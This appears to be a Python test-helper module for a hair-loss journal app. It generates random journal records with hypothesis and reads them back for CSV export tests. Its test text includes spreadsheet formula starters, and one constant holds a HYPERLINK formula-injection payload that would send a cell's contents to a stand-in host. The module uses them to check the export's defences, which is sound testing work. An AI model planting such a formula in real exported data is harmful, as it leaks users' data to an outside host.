"""Journals for the CSV tests: generated ones (hypothesis), and what a journal holds, by value."""

from __future__ import annotations

import datetime as dt
import json
import sqlite3
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from hairjournal.core import limits
from hairjournal.core.enums import (
    CellSource,
    Condition,
    EventKind,
    MeasurementKind,
    Route,
    ScalpRegion,
    ShedProtocol,
    TreatmentKind,
)
from hairjournal.store import models
from hairjournal.store.journal import create_journal

TODAY = dt.date(2026, 6, 30)
DAYS = st.dates(dt.date(1990, 1, 1), TODAY)

# Text as people type it, and as attackers do: formula starts, quotes, separators, line breaks,
# tabs, apostrophes, any script. No NUL (no text file holds one) and no lone surrogates.
TRICKY = st.sampled_from(
    ["=", "+", "-", "@", "'", "''", "\t", "\r", "\n", "\r\n", '"', ",", ";", " ", "[", "]"]
)
TEXT = st.lists(
    st.one_of(TRICKY, st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"))),
    max_size=4,
).map("".join)
INJECTION = '=HYPERLINK("http://example.invalid/?q="&A1,"Click")'


def _number(limit: limits.Limit) -> st.SearchStrategy[float]:
    if limit.whole:
        return st.integers(int(limit.low), int(limit.high)).map(float)
    return st.floats(limit.low, limit.high, exclude_min=not limit.low_inclusive, allow_nan=False)


def _optional(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(st.none(), strategy)


@st.composite
def treatments(draw: st.DrawFn) -> dict[str, Any]:
    started = draw(DAYS)
    stopped = draw(_optional(st.dates(started, TODAY)))
    baseline = draw(_optional(st.tuples(DAYS, st.integers(0, 60))))
    return {
        "kind": draw(st.sampled_from(TreatmentKind)),
        "product": draw(TEXT),
        "started_on": started,
        "stopped_on": stopped,
        "dose": draw(TEXT),
        "next_session_on": draw(_optional(st.dates(started, TODAY + dt.timedelta(days=400)))),
        "baseline_from": None if baseline is None else baseline[0],
        "baseline_to": None if baseline is None else baseline[0] + dt.timedelta(days=baseline[1]),
        "notes": draw(TEXT),
    }


ITEMS = st.lists(st.one_of(TEXT, st.sampled_from(["vertex", "frontal", "redness"])), max_size=3)


@st.composite
def sessions(draw: st.DrawFn) -> dict[str, Any]:
    return {
        "date": draw(DAYS),
        "route": draw(st.sampled_from(Route)),
        "product": draw(TEXT),
        "maker": draw(TEXT),
        "lot": draw(TEXT),
        "cell_source": draw(st.sampled_from(CellSource)),
        "volume_ml": draw(_optional(_number(limits.VOLUME_ML))),
        "needle_depth_mm": draw(_optional(_number(limits.NEEDLE_DEPTH_MM))),
        "areas": draw(ITEMS),
        "clinic": draw(TEXT),
        "pain": draw(_optional(st.integers(0, 10))),
        "side_effects": draw(ITEMS),
        "cost": draw(_optional(_number(limits.COST))),
        "notes": draw(TEXT),
    }


@st.composite
def shed_counts(draw: st.DrawFn) -> dict[str, Any]:
    protocol = draw(st.sampled_from(ShedProtocol))
    return {
        "date": draw(DAYS),
        "protocol": protocol,
        "value": int(draw(_number(limits.SHED_COUNT[protocol]))),
        "wash_day": draw(st.booleans()),
        "notes": draw(TEXT),
    }


RATINGS = ("density", "quality", "breakage", "itch", "flaking", "redness")


@st.composite
def checkins(draw: st.DrawFn) -> dict[str, Any]:
    ratings = {name: draw(_optional(st.integers(0, 10))) for name in RATINGS}
    notes = draw(TEXT)
    if all(value is None for value in ratings.values()) and not notes.strip():
        ratings["density"] = draw(st.integers(0, 10))
    return {"date": draw(DAYS), **ratings, "notes": notes}


@st.composite
def events(draw: st.DrawFn) -> dict[str, Any]:
    started = draw(DAYS)
    return {
        "kind": draw(st.sampled_from(EventKind)),
        "started_on": started,
        "ended_on": draw(_optional(st.dates(started, TODAY))),
        "notes": draw(TEXT),
    }


@st.composite
def measurements(draw: st.DrawFn) -> dict[str, Any]:
    kind = draw(st.sampled_from(MeasurementKind))
    return {
        "date": draw(DAYS),
        "kind": kind,
        "value": draw(_number(limits.MEASUREMENT[kind])),
        "site": draw(TEXT),
        "notes": draw(TEXT),
    }


@st.composite
def journals(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
    """Records of every kind; each session names its course by index into ``treatments``."""
    # Records equal in every value are one record (import takes the second for a duplicate).
    courses = draw(st.lists(treatments(), max_size=3, unique_by=_every_value))
    course_sessions = []
    if courses:
        for session in draw(st.lists(sessions(), max_size=4, unique_by=_every_value)):
            session["treatment"] = draw(st.integers(0, len(courses) - 1))
            course_sessions.append(session)
    return {
        "treatments": courses,
        "sessions": course_sessions,
        # The journal holds one count per day and way of counting, one check-in per day.
        "shed_counts": draw(
            st.lists(shed_counts(), max_size=6, unique_by=lambda r: (r["date"], r["protocol"]))
        ),
        "checkins": draw(st.lists(checkins(), max_size=3, unique_by=lambda r: r["date"])),
        "events": draw(st.lists(events(), max_size=3, unique_by=_every_value)),
        "measurements": draw(st.lists(measurements(), max_size=4, unique_by=_every_value)),
    }


def _every_value(record: dict[str, Any]) -> str:
    return repr(sorted(record.items()))


MODELS = {
    "treatments": models.Treatment,
    "sessions": models.Session,
    "shed_counts": models.ShedCount,
    "checkins": models.Checkin,
    "events": models.Event,
    "measurements": models.Measurement,
}


def write_journal(path: Path, records: dict[str, list[dict[str, Any]]], *, photos: int = 0) -> None:
    """A new journal at ``path`` holding ``records`` (and ``photos`` photo rows), closed again."""
    with create_journal(path, title="Generated", condition=Condition.AGA_MALE):
        ids = [models.Treatment.insert(**row).execute() for row in records["treatments"]]
        for row in records["sessions"]:
            models.Session.insert(**{**row, "treatment": ids[row["treatment"]]}).execute()
        for name, rows in records.items():
            if name not in {"treatments", "sessions"}:
                for row in rows:
                    MODELS[name].insert(**row).execute()
        for number in range(photos):
            models.Photo.insert(
                taken_at=dt.datetime(2025, 1, 1 + number, 9, 30),
                region=ScalpRegion.VERTEX,
                sha256=f"{number:064x}",
                format="JPEG",
                width=4000,
                height=3000,
                notes=INJECTION,
                imported_at=dt.datetime(2025, 1, 2),
                thumbnail=b"",
            ).execute()


def contents(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every record of ``path`` by kind, without ids, sorted; a session carries its course's
    values in place of the course's id. Read with plain sqlite3."""
    connection = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro", uri=True)
    try:
        found: dict[str, list[tuple[Any, ...]]] = {}
        courses: dict[int, tuple[Any, ...]] = {}
        for name, model in MODELS.items():
            columns = [
                f'"{field.column_name}"'
                for field in model._meta.sorted_fields
                if field.name != "id"
            ]
            rows = connection.execute(
                f"SELECT id, {', '.join(columns)} FROM {model._meta.table_name}"
            )
            values = []
            for record_id, *cells in rows:
                if name == "treatments":
                    courses[record_id] = tuple(cells)
                if name == "sessions":
                    cells[0] = courses[cells[0]]
                values.append(tuple(_plain(cell) for cell in cells))
            found[name] = sorted(values, key=repr)
        return found
    finally:
        connection.close()


def _plain(cell: Any) -> Any:
    """JSON lists as lists, so that two spellings of the same list compare equal."""
    if isinstance(cell, str) and cell.startswith("["):
        try:
            return tuple(json.loads(cell))
        except ValueError:
            return cell
    return cell
